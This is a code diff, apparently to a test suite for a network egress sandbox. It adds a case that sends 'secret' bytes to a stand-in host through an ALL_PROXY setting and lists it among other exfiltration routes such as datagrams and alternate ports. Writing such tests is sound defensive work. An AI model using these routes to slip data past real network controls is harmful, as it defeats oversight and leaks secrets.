@@ -74,6 +74,16 @@ def through_proxy(secret: bytes, variable: str) -> None:
         del os.environ[variable]
 
 
+def requests_through_proxy(secret: bytes) -> None:
+    import requests
+
+    os.environ["ALL_PROXY"] = f"http://{WORLD}:3128"
+    try:
+        requests.post("http://allowed.example/", data=secret, timeout=1)
+    finally:
+        del os.environ["ALL_PROXY"]
+
+
 def with_asyncio(secret: bytes) -> None:
     async def talk() -> None:
         _, writer = await asyncio.open_connection(WORLD, 443)
@@ -126,6 +136,7 @@ WAYS: dict[str, Callable[[bytes], object]] = {
     "another port of an allowed host": lambda secret: by_name(secret, "allowed.example", 8080),
     "plain http to an allowed host": lambda secret: plain_http(secret, "allowed.example"),
     "a proxy in http_proxy": lambda secret: through_proxy(secret, "http_proxy"),
+    "a proxy in ALL_PROXY": requests_through_proxy,
     "a datagram": datagram,
     "a message": message,
     "a connected datagram": connected_datagram,
